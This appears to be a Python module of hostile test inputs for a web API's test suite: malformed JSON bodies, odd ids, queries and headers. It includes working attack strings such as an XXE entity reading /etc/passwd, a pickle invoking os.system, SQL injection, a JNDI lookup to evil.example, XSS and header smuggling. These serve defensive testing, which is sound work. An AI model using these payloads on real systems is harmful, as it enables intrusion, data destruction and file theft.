"""Hostile requests as data: bodies, values, paths, queries and headers that no honest client sends.

`TYPE` stands for the resource type of the route, `CANARY` for what must not come back. A name says
what is wrong; with it a failing test says which case it was.
"""

from collections.abc import Iterator, Sequence
from itertools import cycle, product
from typing import Final

CANARY: Final = "Xq7-Canary-Zw9!aB"
"""Passes for a password; it stands in every hostile value."""


def envelope(attributes: str) -> bytes:
    """Return a document whose attributes are a piece of JSON text."""
    return f'{{"data":{{"type":"TYPE","attributes":{attributes}}}}}'.encode()


def valued(text: str) -> bytes:
    """Return a document with one attribute that has a piece of JSON text as its value."""
    return envelope(f'{{"x{CANARY}":{text},"password":"{CANARY}"}}')


_GOOD: Final = envelope(f'{{"password":"{CANARY}"}}')
_NESTED: Final = 40

NOT_JSON: Final[dict[str, bytes]] = {
    # Lone surrogates and NUL
    "high surrogate": valued(r'"\ud800"'),
    "low surrogate": valued(r'"\udc00"'),
    "reversed surrogates": valued(r'"\udc00\ud800"'),
    "surrogate and letter": valued(r'"\ud83dx"'),
    "surrogate at the end": valued(r'"x\udbff"'),
    "surrogate as a member": envelope(r'{"\ud800":1}'),
    "surrogate as a nested member": valued(r'{"a":[{"\udfff":1}]}'),
    "surrogate beside data": b'{"\\ud800":1,' + _GOOD[1:],
    "surrogate in UTF-8": _GOOD.replace(b"Xq7", b"\xed\xa0\x80"),
    "escaped NUL": valued(r'"a\u0000b"'),
    "escaped NUL as a member": envelope(r'{"\u0000":1}'),
    "raw NUL": valued('"a\x00b"'),
    "NUL before": b"\x00" + _GOOD,
    "NUL behind": _GOOD + b"\x00",
    # Numbers
    "NaN": valued("NaN"),
    "Infinity": valued("Infinity"),
    "-Infinity": valued("-Infinity"),
    "nested NaN": valued("[[NaN]]"),
    "1e400": valued("1e400"),
    "-1e400": valued("-1e400"),
    "1E+999": valued("1E+999"),
    "more than 64 bits": valued("18446744073709551616"),
    "less than 64 bits": valued("-9223372036854775809"),
    "5000 digits": valued("9" * 5000),
    "60000 digits": valued("1" * 60_000),
    "leading zero": valued("01"),
    "leading plus": valued("+1"),
    "no integer part": valued(".5"),
    "no fraction": valued("1."),
    "no exponent": valued("1e"),
    "hexadecimal": valued("0x10"),
    "underscores": valued("1_000"),
    "other digits": valued("\u0661"),
    "minus alone": valued("-"),
    # Duplicates
    "duplicate attribute": envelope('{"a":1,"a":2}'),
    "duplicate by escape": envelope(r'{"a":1,"\u0061":2}'),
    "nested duplicate": valued('{"a":{"b":1,"b":1}}'),
    "duplicate in an array": valued('[{"a":1,"a":1}]'),
    "duplicate type": b'{"data":{"type":"TYPE","type":"TYPE","attributes":{}}}',
    "duplicate attributes": b'{"data":{"type":"TYPE","attributes":{},"attributes":{}}}',
    "duplicate data": b'{"data":{},' + _GOOD[1:],
    "duplicate of nothing": envelope('{"":1,"":2}'),
    # Encodings
    "byte order mark": b"\xef\xbb\xbf" + _GOOD,
    "UTF-16": _GOOD.decode().encode("utf-16"),
    "UTF-16 LE": _GOOD.decode().encode("utf-16-le"),
    "UTF-16 BE": _GOOD.decode().encode("utf-16-be"),
    "UTF-32": _GOOD.decode().encode("utf-32"),
    "UTF-7": _GOOD.replace(b"{", b"+AHs-"),
    "Latin-1": _GOOD.replace(b"Xq7", b"\xe4"),
    "byte FF": _GOOD.replace(b"Xq7", b"\xff"),
    "continuation alone": _GOOD.replace(b"Xq7", b"\x80"),
    "overlong NUL": _GOOD.replace(b"Xq7", b"\xc0\x80"),
    "overlong slash": _GOOD.replace(b"Xq7", b"\xe0\x80\xaf"),
    "beyond Unicode": _GOOD.replace(b"Xq7", b"\xf4\x90\x80\x80"),
    "cut character": _GOOD.replace(b"Xq7", b"\xc3"),
    # Truncated, and more than a document
    "empty": b"",
    "blank": b" \r\n\t ",
    "one brace": b"{",
    "one quote": b'"',
    **{f"cut after {number}": _GOOD[:number] for number in (2, 7, 8, 20, 40, len(_GOOD) - 1)},
    "letter behind": _GOOD + b"x",
    "brace behind": _GOOD + b"}",
    "twice": _GOOD * 2,
    "lines": _GOOD + b"\n" + _GOOD,
    "comma behind": _GOOD + b",",
    # Not JSON, though some parsers take it
    "trailing comma": envelope('{"a":1,}'),
    "comma in an array": valued("[1,]"),
    "comma alone": envelope("{,}"),
    "no colon": envelope('{"a" 1}'),
    "single quotes": envelope("{'a':1}"),
    "no quotes": envelope("{a:1}"),
    "comment": b"/* x */" + _GOOD,
    "line comment": _GOOD + b"// x",
    "hash comment": b"# x\n" + _GOOD,
    "True": valued("True"),
    "None": valued("None"),
    "undefined": valued("undefined"),
    "line break in a string": valued('"a\nb"'),
    "tab in a string": valued('"a\tb"'),
    "escape in a string": valued('"a\x1bb"'),
    "unknown escape": valued(r'"\x41"'),
    "short escape": valued(r'"\u12"'),
    "escaped quote": valued(r"\"a\""),
    "prefix of others": b")]}',\n" + _GOOD,
    "form": f"data[type]=TYPE&data[attributes][password]={CANARY}".encode(),
    "multipart": f'--x\r\nContent-Disposition: form-data; name="data"\r\n\r\n{CANARY}\r\n--x--\r\n'.encode(),
    "XML": f"<?xml version='1.0'?><!DOCTYPE d [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><d>&e;{CANARY}</d>".encode(),
    "YAML": f"data:\n  type: TYPE\n  attributes: {{password: {CANARY}}}\n".encode(),
    "pickle": b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x94.",
    "MessagePack": b"\x81\xa4data\x81\xa4type\xa4TYPE",
    "gzip unannounced": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xabV*I-.\x01\x00",
    # Depth
    "nested arrays": valued("[" * _NESTED + "]" * _NESTED),
    "nested objects": valued('{"a":' * _NESTED + "1" + "}" * _NESTED),
    "60000 brackets": b"[" * 60_000,
    "10000 objects": b'{"a":' * 10_000,
    "brackets as data": b'{"data":' + b"[" * 30_000,
    "closing brackets": b"]" * 60_000,
    "depth behind a string": valued('"[[[["') + b"[" * 1_000,
}
"""Bodies that are no strict JSON: 400 on every route that reads a document, `/token` included."""

NO_ENVELOPE: Final[dict[str, bytes]] = {
    "null": b"null",
    "number": b"0",
    "string": f'"{CANARY}"'.encode(),
    "array": b"[]",
    "array of documents": b"[" + _GOOD + b"]",
    "empty object": b"{}",
    "data is null": b'{"data":null}',
    "data is a list": b'{"data":[{"type":"TYPE","attributes":{}}]}',
    "data is a string": f'{{"data":"{CANARY}"}}'.encode(),
    "data is empty": b'{"data":{}}',
    "type is null": b'{"data":{"type":null,"attributes":{}}}',
    "no type": b'{"data":{"attributes":{}}}',
    "no attributes": b'{"data":{"type":"TYPE"}}',
    "attributes are null": envelope("null"),
    "attributes are a string": envelope(f'"{CANARY}"'),
    "attributes are a list": envelope("[]"),
    "attributes are a number": envelope("1"),
    "type is another": f'{{"data":{{"type":"{CANARY}","attributes":{{}}}}}}'.encode(),
    "type is a list": b'{"data":{"type":["TYPE"],"attributes":{}}}',
    "type is an object": b'{"data":{"type":{"a":1},"attributes":{}}}',
    "type is true": b'{"data":{"type":true,"attributes":{}}}',
    "type in capitals": b'{"data":{"type":"tYPe","attributes":{}}}',
    "prototype": b'{"__proto__":{"data":{"type":"TYPE","attributes":{}}}}',
}
"""Strict JSON that is no document of the route: 400, too."""

READABLE: Final[dict[str, bytes]] = {
    "-0": valued("-0"),
    "-0.0": valued("-0.0"),
    "1e-400": valued("1e-400"),
    "1e308": valued("1e308"),
    "largest integer": valued("18446744073709551615"),
    "smallest integer": valued("-9223372036854775808"),
    "pair of surrogates": valued(r'"\ud83d\ude00"'),
    "nested below the limit": valued("[" * 29 + "]" * 29),
    "other members": b'{"links":1,' + _GOOD[1:],
    "blanks around": b"\r\n\t " + _GOOD + b" \n",
    "empty member": envelope('{"":1}'),
    "prototype": envelope('{"__proto__":{"isAdmin":true},"constructor":1}'),
    "10000 attributes": envelope("{" + ",".join(f'"a{it}":0' for it in range(5_000)) + "}"),
    "of 64 KiB": _GOOD.ljust(64 * 1024),
}
"""Odd documents that are good JSON: the body is read, whatever the route then says."""

TEXTS: Final[dict[str, str]] = {
    "blank": " ",
    "canary": CANARY,
    "long": "x" * 300,
    "30000 characters": "x" * 30_000,
    "emoji": "\U0001f469\u200d\U0001f4bb" * 30,
    "combining": "e" + "\u0301" * 60,
    "right to left": "\u202e" + CANARY,
    "zero width": "a\u200bb\ufeffc",
    "full width": "\uff21\uff24\uff21\uff20\uff53\uff48\uff4f\uff50",
    "private use": "\U0010ffff\ue000",
    "line separator": "a\u2028b\u2029c",
    "CRLF": "a\r\nBcc: evil@shop.example\r\n\r\n" + CANARY,
    "control characters": "a\x1b[31m\x07\x7f\x85b",
    "SQL": "'; DROP TABLE customers; --" + CANARY,
    "LIKE": "%_\\%",
    "template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>" + CANARY,
    "format": "%s%n%x{0}{key}",
    "JNDI": "${jndi:ldap://evil.example/a}",
    "HTML": "<script>alert(1)</script>" + CANARY,
    "path": "../../../../etc/passwd",
    "JSON": '{"a":"' + CANARY + '"}',
    "number": "1e400",
    "address": "a@b@c",
    "quoted address": '"a b"@shop.example',
    "literal address": "ada@[127.0.0.1]",
    "international address": "ada@b\u00fccher.example",
    "long address": "a" * 65 + "@shop.example",
    "date": "2023-02-29",
    "far date": "9999-12-31",
    "first date": "0000-00-00",
    "country": "XX",
    "token": "eyJhbGciOiJub25lIn0.e30.",
}
"""Strings for every attribute."""

OTHER_VALUES: Final[dict[str, object]] = {
    "null": None,
    "true": True,
    "false": False,
    "zero": 0,
    "integer": 2**63,
    "fraction": 1e308,
    "empty list": [],
    "list": [CANARY],
    "empty object": {},
    "object": {"$ne": CANARY, "password": CANARY},
    "deep": [[[[[[[[{"a": [CANARY]}]]]]]]]],
}
"""Values of other types for every attribute."""

IDS: Final[dict[str, str]] = {
    "NUL": "%00",
    "NUL inside": f"DE--1%00{CANARY}",
    "bytes that are not UTF-8": "%ff%fe",
    "surrogate": "%ed%a0%80",
    "overlong": "%c0%af",
    "dots": "..",
    "encoded dots": "%2e%2e%2f%2e%2e",
    "encoded slash": "a%2Fb",
    "backslash": "%5c..%5c",
    "percent": "%25",
    "broken percent": "%zz",
    "blank": "%20",
    "CRLF": "%0d%0aSet-Cookie:%20a=b",
    "quote": "'%20OR%201=1--",
    "long": "a" * 4000,
    "unicode": "%E2%80%AE%F0%9F%98%80",
    "semicolon": ";a=b",
    "canary": CANARY,
    "mine": "mine",
    "dash": "-",
    "number": "-9223372036854775809",
    "uuid": "00000000-0000-0000-0000-000000000000",
    "braces": "{7b7d7d}",
    "star": "*",
}
"""Segments for every id in a path, as they stand on the wire."""

REFUSED_QUERIES: Final[dict[str, str]] = {
    "twice": "include=a&include=b",
    "twice by escape": "include=a&%69nclude=b",
    "twice without a value": "x&x",
    "NUL": f"q=%00{CANARY}",
    "NUL in a name": "%00=1",
    "bytes that are not UTF-8": "q=%ff",
    "surrogate": "q=%ed%a0%80",
    "overlong": "q=%c0%80",
    "letters as offset": f"page[offset]={CANARY}&page[limit]=1",
    "negative limit": "page[limit]=-1",
    "limit of nothing": "page[limit]=0",
    "huge offset": "page[offset]=99999999999999999999&page[limit]=1",
    "other digits": "page[limit]=%D9%A1",
    "fraction": "page[offset]=1.5",
    "exponent": "page[offset]=1e3",
}
"""Query strings that are 400 on every path."""

ODD_QUERIES: Final[dict[str, str]] = {
    "nothing": "",
    "ampersands": "&&&",
    "equals": "===",
    "no value": "include",
    "unknown include": f"include={CANARY},,..,__class__",
    "unknown fields": "fields[customers]=passwordHash,id&fields[]=&fields[a][b]=c",
    "filters": "filter[orders.search]=%27&filter[a.b.c]=1&filter=1",
    "sort": "sort=-,--,%20",
    "brackets": "page[offset][]=1&page[]=1&page=1",
    "long": "q=" + "x" * 7000,
    "many": "&".join(f"a{it}=1" for it in range(1000)),
    "script": "q=%3Cscript%3E" + CANARY,
    "broken percent": "q=%zz%",
    "semicolon": "a=1;a=2",
    "plus": "q=+++",
    "redirect": "redirect=https://evil.example&_store=XX&url=//evil.example",
}
"""Query strings that are read; whatever the route then says."""

HEADERS: Final[dict[str, list[tuple[str, str]]]] = {
    "no scheme": [("authorization", CANARY)],
    "basic": [("authorization", "Basic " + CANARY)],
    "blank token": [("authorization", "Bearer   ")],
    "two tokens": [("authorization", "Bearer a"), ("authorization", "Bearer b")],
    "long token": [("authorization", "Bearer " + "a" * 30_000)],
    "dots": [("authorization", "Bearer ...")],
    "Latin-1": [("authorization", "Bearer \xe4\xff")],
    "unsigned": [("authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJERS0tMSJ9.")],
    "both identities": [("authorization", "Bearer a"), ("x-anonymous-customer-unique-id", CANARY)],
    "odd languages": [("accept-language", "de;q=zz,;;,*;q=-1,\xe4,,en-" + "x" * 5000)],
    "many languages": [("accept-language", ",".join(["de"] * 5000))],
    "odd types": [("content-type", "\xff/;;=,"), ("accept", ";;;")],
    "two types": [("content-type", "text/plain"), ("content-type", "application/json")],
    "no types": [("content-type", ""), ("accept", "")],
    "utf-7": [("content-type", "application/json; charset=utf-7")],
    "multipart": [("content-type", "multipart/form-data")],
    "odd request id": [("x-request-id", "a\tb" + CANARY * 10)],
    "odd length": [("content-length", "\xb2")],
    "no length": [("content-length", "")],
    "negative length": [("content-length", "-1")],
    "method override": [("x-http-method-override", "DELETE"), ("x-method-override", "DELETE")],
    "rewritten": [("x-original-url", "/health/live"), ("x-rewrite-url", "/docs")],
    "forwarded": [
        ("forwarded", "for=127.0.0.1;host=evil.example;proto=gopher"),
        ("x-forwarded-for", "127.0.0.1"),
        ("x-forwarded-host", "evil.example"),
        ("x-forwarded-proto", "gopher"),
        ("x-forwarded-prefix", "/evil"),
        ("x-real-ip", "127.0.0.1"),
    ],
    "cookies": [("cookie", "session=" + CANARY)],
    "range": [("range", "bytes=0-0,-1,5-1"), ("if-range", "x")],
    "conditions": [("if-match", '"\xff'), ("if-none-match", "*"), ("if-modified-since", "x")],
    "two conditions": [("if-match", '"a"'), ("if-match", '"b"')],
    "odd idempotency key": [("idempotency-key", "\xe4" * 500)],
    "two idempotency keys": [("idempotency-key", "a" * 20), ("idempotency-key", "b" * 20)],
    "blank idempotency key": [("idempotency-key", " ")],
    "odd store": [("store", CANARY), ("x-store", "\xff")],
    "odd origin": [("origin", "null"), ("access-control-request-method", "\xff")],
    "upgrade": [("connection", "Upgrade"), ("upgrade", "websocket")],
}
"""Header fields beside a good `Host`."""


def values_of(fields: Sequence[str], database_url: str) -> Iterator[tuple[str, str, object]]:
    """Return hostile values with the field to try each in, and its name: field, name, value.

    On SQLite every field gets every value. On PostgreSQL, where only what drivers and server make of the
    values is new, every value is tried once, the fields taking turns.
    """
    values = TEXTS | OTHER_VALUES
    is_whole = database_url.startswith("sqlite")
    pairs = product(fields, values) if is_whole else zip(cycle(fields), values, strict=False)
    return ((field, name, values[name]) for field, name in pairs)
